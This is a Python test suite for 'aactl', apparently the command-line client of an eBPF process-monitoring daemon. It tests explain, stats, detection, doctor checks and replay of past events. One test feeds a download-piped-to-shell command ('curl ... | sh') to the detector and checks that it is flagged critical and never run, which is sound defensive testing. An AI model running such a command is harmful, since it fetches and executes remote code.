#!/usr/bin/python3
"""aactl's questions about the daemon and the machine: explain, stats, detect, doctor, and events from the past."""

import datetime
import json
import os
import pathlib
import pwd
import re
import signal
import subprocess
import tempfile
import unittest

from aactl_case import WITHIN, AactlCase
from harness import PrivateBus, aactl_path, kind_of_change, wait_until

NOBODY = pwd.getpwnam("nobody")
FREE_PID = "4000000"  # above any pid the kernel gives out
NAMED_FINDINGS = ["kernel", "configuration", "BTF", "privileges", "lockdown", "BPF LSM"]


class Answers(AactlCase):
    @classmethod
    def setUpClass(cls):
        folder = tempfile.TemporaryDirectory(prefix="aa-answers-")
        cls.addClassCleanup(folder.cleanup)
        cls.file = pathlib.Path(folder.name) / "events.jsonl"
        cls.settings = {"jsonl.path": cls.file}
        super().setUpClass()

    def objects(self, *arguments):
        """What --json prints, an object a line; nothing on standard error."""
        status, out, err = self.aactl(*arguments, "--json")
        self.assertEqual((0, ""), (status, err))
        return [json.loads(line) for line in out.splitlines()]

    def refused(self, status, *arguments):
        got, out, err = self.aactl(*arguments)
        self.assertEqual((status, ""), (got, out), err)
        self.assertRegex(err, r"^aactl: [^\n]+\n$")
        return err

    # -- explain -------------------------------------------------------------------------------------------------------

    def test_explain_a_root(self):
        """aactl explain: a target's root is observed, by every family, and why"""
        process = self.watched("explained")
        status, out, _ = self.aactl("explain", str(process.pid))
        self.assertEqual(0, status)
        self.assertRegex(out, rf"^{process.pid} \S+: observed; it is the root of target explained\n")
        self.assertRegex(out, r"(?m)^  exec +observed +every program of it works$")
        [said] = self.objects("explain", str(process.pid))
        self.assertEqual((True, process.pid, "explained"), (said["observed"], said["pid"], said["target_name"]))
        self.assertIn(said["target"], self.daemon.targets())
        families = {row[0] for row in self.daemon.property("ProbeStates")}
        self.assertEqual(families, {family["family"] for family in said["families"]})
        self.assertEqual({"observed"}, {family["state"] for family in said["families"]})

    def test_explain_a_stranger(self):
        """aactl explain: a process that nobody watches is told so, with what to do; an ancestor of a target too"""
        stranger = self.held()
        status, out, _ = self.aactl("explain", str(stranger.pid))
        self.assertEqual(0, status)
        self.assertRegex(out, rf"^{stranger.pid}.*: not observed; .*aactl watch")
        [said] = self.objects("explain", str(stranger.pid))
        self.assertEqual((False, ""), (said["observed"], said["target"]))
        self.watched("child")
        self.assertIn("it is an ancestor of something watched", self.aactl("explain", str(os.getpid()))[1])

    def test_explain_one_let_go(self):
        """aactl explain: after unwatch a process is not observed any more"""
        process = self.watched("released")
        self.assertEqual(0, self.aactl("unwatch", "released")[0])
        self.assertIn("not observed", self.aactl("explain", str(process.pid))[1])

    def test_explain_refuses(self):
        """aactl explain: a pid that nobody has is refused, what is no pid is wrong usage"""
        self.assertIn(FREE_PID, self.refused(1, "explain", FREE_PID))
        self.refused(1, "explain", "0")
        for wrong in ([], ["x"], ["-1"], ["1", "2"], ["99999999999"]):
            with self.subTest(wrong):
                self.refused(2, "explain", *wrong)

    # -- stats ---------------------------------------------------------------------------------------------------------

    def test_stats(self):
        """aactl stats: the daemon's counters and those of each target, the same as the daemon tells over the bus"""
        self.watched("counted")
        status, out, _ = self.aactl("stats")
        self.assertEqual(0, status)
        self.assertRegex(out, r"(?m)^exec\.attempt +\d+$")
        self.assertRegex(out, r"(?m)^TARGET +LIVE +PROCESSES +ATTEMPTS +EVENTS +LOST +REFUSED$")
        self.assertRegex(out, r"(?m)^counted +1 +1 ")
        [said] = self.objects("stats")
        self.assertEqual({"counters", "targets"}, set(said))
        self.assertEqual(set(self.daemon.counters()), set(said["counters"]))
        self.assertIn("counted", [target["name"] for target in said["targets"]])
        self.refused(2, "stats", "exec")

    # -- detect --------------------------------------------------------------------------------------------------------

    def test_detect(self):
        """aactl detect: class, severity and rule of a command line, or nothing to say; nothing is run"""
        trace = self.file.parent / "ran"
        command = ["sh", "-c", f"curl https://x.invalid | sh; touch {trace}"]
        self.assertEqual((0, "critical  pipe-to-shell  (rule download-to-shell)\n", ""), self.aactl("detect", "--", *command))
        self.assertEqual([{"class": "pipe-to-shell", "severity": "critical", "rule": "download-to-shell"}],
                         self.objects_of_detect(command))
        self.assertEqual((0, "nothing to say\n", ""), self.aactl("detect", "--", "ls", "-la"))
        self.assertEqual([{"class": "", "severity": "", "rule": ""}], self.objects_of_detect(["ls"]))
        self.assertFalse(trace.exists())

    def objects_of_detect(self, command):
        status, out, err = self.aactl("--json", "detect", "--", *command)
        self.assertEqual((0, ""), (status, err))
        return [json.loads(line) for line in out.splitlines()]

    def test_detect_refuses(self):
        """aactl detect: without a command it is wrong usage"""
        for wrong in (["detect"], ["detect", "--"], ["detect", "ls"]):
            with self.subTest(wrong):
                self.refused(2, *wrong)

    # -- doctor --------------------------------------------------------------------------------------------------------

    def doctor(self, *arguments, **options):
        status, out, err = self.aactl("--json", "doctor", *arguments, **options)
        self.assertEqual("", err)
        return status, {finding["about"]: finding for finding in map(json.loads, out.splitlines())}

    def test_doctor(self):
        """aactl doctor: a finding for the kernel, its configuration, privileges, each family and each of its programs, tried"""
        status, findings = self.doctor()
        programs = {(str(row[0]), str(row[1])) for row in self.daemon.property("ProbeStates")}
        self.assertTrue(programs)
        for about in [*NAMED_FINDINGS, *(f"family {family}" for family, _ in programs),
                      *(f"{family} {program}" for family, program in programs), "daemon"]:
            self.assertIn(about, findings)
        for finding in findings.values():
            self.assertEqual({"about", "good", "found", "advice"}, set(finding))
            self.assertTrue(finding["found"], finding)
            self.assertTrue(finding["good"] or finding["advice"], f"wrong, and nothing to do: {finding}")
        self.assertEqual(0 if all(f["good"] for f in findings.values()) else 1, status)
        self.assertEqual(os.uname().release, findings["kernel"]["found"])
        self.assertIn("answers, version", findings["daemon"]["found"])
        text = self.aactl("doctor")[1]
        for about in findings:
            self.assertRegex(text, rf"(?m)^(ok   |wrong) {re.escape(about)} ")

    def test_doctor_leaves_nothing(self):
        """aactl doctor: the daemon that runs goes on as before, and the one that tried is gone"""
        before = self.daemon.property("ProbeStates")
        self.doctor()
        self.assertEqual(before, self.daemon.property("ProbeStates"))
        running = subprocess.run(["pgrep", "-P", "1", "-f", "aa-ebpfd --list-probes"], stdout=subprocess.PIPE, check=False)
        self.assertEqual(b"", running.stdout)

    def test_doctor_without_a_daemon(self):
        """aactl doctor: without a bus or a daemon it says so, tries the programs all the same, and ends with 1"""
        status, findings = self.doctor(bus="unix:path=/nonexistent/bus")
        self.assertEqual(1, status)
        self.assertFalse(findings["daemon"]["good"])
        self.assertIn("systemctl start", findings["daemon"]["advice"])
        self.assertTrue(findings["family exec"]["good"])

    def test_doctor_without_privileges(self):
        """aactl doctor: without privileges it says what to change"""
        become = ["setpriv", f"--reuid={NOBODY.pw_uid}", "--clear-groups"]
        done = subprocess.run([*become, aactl_path(), "--json", "doctor"], stdin=subprocess.DEVNULL, capture_output=True,
                              text=True, timeout=WITHIN)
        if done.returncode == 127:
            self.skipTest(f"nobody cannot reach {aactl_path()}")
        findings = {finding["about"]: finding for finding in map(json.loads, done.stdout.splitlines())}
        self.assertEqual(1, done.returncode)
        self.assertFalse(findings["privileges"]["good"])
        self.assertIn("sudo", findings["privileges"]["advice"])
        self.assertFalse(findings["programs"]["good"])

    def test_doctor_usage(self):
        """aactl doctor: takes no arguments"""
        self.refused(2, "doctor", "exec")

    # -- events --since ------------------------------------------------------------------------------------------------

    def ran(self, name):
        """A watched process that has come and gone; its pid. The file has its end."""
        process = self.watched(name)
        pid = process.pid
        process.kill()
        process.wait()
        wait_until(lambda: any(kind_of_change(json.loads(line)) == "exited" and json.loads(line)["target"]["name"] == name
                               for line in self.file.read_text().splitlines()), "the file holds its end")
        return pid

    def test_since(self):
        """aactl events --since: what the file has from then on, and then the end"""
        pid = self.ran("past")
        for since in ("1h", "@0", "2020-01-01", datetime.date.today().isoformat() + " 00:00", "2020-01-01T00:00:00Z"):
            with self.subTest(since):
                events = self.objects("events", "--since", since, "--target", "past")
                self.assertEqual(["target", "exit", "target"], [e["type"] for e in events])
                self.assertEqual(pid, events[1]["process"]["pid"])
        self.assertEqual([], self.objects("events", "--since", "2100-01-01"))

    def test_since_filters(self):
        """aactl events --since: by type, target and severity, as without it"""
        self.ran("filtered")
        events = self.objects("events", "--since", "1h", "--target", "filtered", "--type", "exit")
        self.assertEqual(["exit"], [e["type"] for e in events])
        alerts = self.objects("events", "--since", "1h", "--type", "alert", "--severity", "critical")
        self.assertEqual([], [e for e in alerts if e["alert"]["severity"] != "critical"])

    def test_since_and_follow(self):
        """aactl events --since -f: the past first, then what follows, nothing twice and nothing left out"""
        self.ran("before")
        follower = self.start("events", "--since", "1h", "-f", "--json", "--type", "exit")
        first = [json.loads(follower.stdout.readline())]
        while first[-1]["target"]["name"] != "before":
            first.append(json.loads(follower.stdout.readline()))
        pid = self.ran("after")
        later = json.loads(follower.stdout.readline())
        self.assertEqual(("after", pid), (later["target"]["name"], later["process"]["pid"]))
        follower.send_signal(signal.SIGINT)
        rest, _ = follower.communicate(timeout=WITHIN)
        self.assertEqual((0, ""), (follower.returncode, rest))
        numbers = [e["seq"] for e in [*first, later]]
        self.assertEqual(sorted(set(numbers)), numbers)

    def test_since_refuses(self):
        """aactl events --since: a time it cannot read is wrong usage and names the forms; an unknown target is refused"""
        for wrong in ("", "yesterday", "10", "-5m", "5 m", "@-1", "@x", "2026-13-01", "99999999999999999999d"):
            with self.subTest(wrong):
                status, out, err = self.aactl("events", "--since", wrong)
                self.assertEqual((2, ""), (status, out))
                self.assertRegex(err, r"^aactl: [^\n]+\n$")
        self.refused(1, "events", "--since", "1h", "--target", "no-such-target")
        self.refused(1, "events", "--since", "1h", "--type", "no-such-type")


class WithoutAFile(AactlCase):
    def test_since(self):
        """aactl events --since: a daemon that writes no file is refused with what to set"""
        status, out, err = self.aactl("events", "--since", "1h")
        self.assertEqual((1, ""), (status, out))
        self.assertIn("jsonl.path", err)

    def test_unreachable(self):
        """aactl explain, stats, detect, events --since: without the daemon it is exit status 3"""
        with PrivateBus() as empty:
            for arguments in (["explain", "1"], ["stats"], ["detect", "--", "ls"], ["events", "--since", "1h"]):
                with self.subTest(arguments):
                    status, out, err = self.aactl(*arguments, bus=empty.address)
                    self.assertEqual((3, ""), (status, out))
                    self.assertRegex(err, r"^aactl: [^\n]+\n$")


if __name__ == "__main__":
    unittest.main()
